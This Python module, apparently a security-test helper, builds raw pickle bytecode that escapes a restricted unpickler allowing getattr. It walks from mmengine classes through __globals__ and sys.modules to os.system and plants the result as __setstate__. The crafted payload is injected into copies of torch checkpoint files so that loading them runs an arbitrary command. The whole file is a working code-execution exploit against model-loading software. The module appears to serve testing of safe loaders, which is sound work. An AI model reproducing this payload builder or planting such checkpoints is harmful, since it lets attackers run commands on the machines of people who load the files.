"""Pickles that run a command through a reader that allows ``getattr`` and some classes."""

import struct
import zipfile
from pathlib import Path


def text(value):
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def named(module, name):
    return f'c{module}\n{name}\n'.encode()


def attribute(owner, name):
    return named('builtins', 'getattr') + owner + text(name) + b'\x86R'


def filled(owner, state):
    """Make a new object of a class and update its ``__dict__`` by a state."""
    return owner + b')\x81' + state + b'b'


def attack(module, name, function, command):
    """Walk from a class to ``os.system``, which becomes ``__setstate__``."""
    owner = named(module, name)
    namespace = attribute(attribute(owner, function), '__globals__')
    warnings = attribute(filled(owner, namespace), 'warnings')
    modules = attribute(attribute(warnings, 'sys'), 'modules')
    system = attribute(attribute(filled(owner, modules), 'os'), 'system')
    victim = filled(owner, b'}' + text('__setstate__') + system + b's')
    return victim + text(command) + b'b'


CRAFTED = dict(
    history=('mmengine.logging.history_buffer', 'HistoryBuffer', '__init__'),
    one_cycle=(
        'mmengine.optim.scheduler.param_scheduler',
        'OneCycleParamScheduler',
        '_annealing_cos',
    ),
)


def rewritten(source, target, change):
    """Copy a torch file, its pickle passed through ``change``."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, 'w') as new:
        for item in old.infolist():
            data = old.read(item)
            if item.filename.endswith('data.pkl'):
                data = change(data)
            new.writestr(item, data)
    return target


def with_entry(source, target, value):
    """Copy a torch file, whose dict gets one more entry."""
    return str(rewritten(source, target, lambda data: data[:-1] + text('more') + value + b's.'))


def crafted(source, target, kind, command):
    """Copy a torch file, whose dict gets an entry that runs a command."""
    return Path(with_entry(source, target, attack(*CRAFTED[kind], command)))
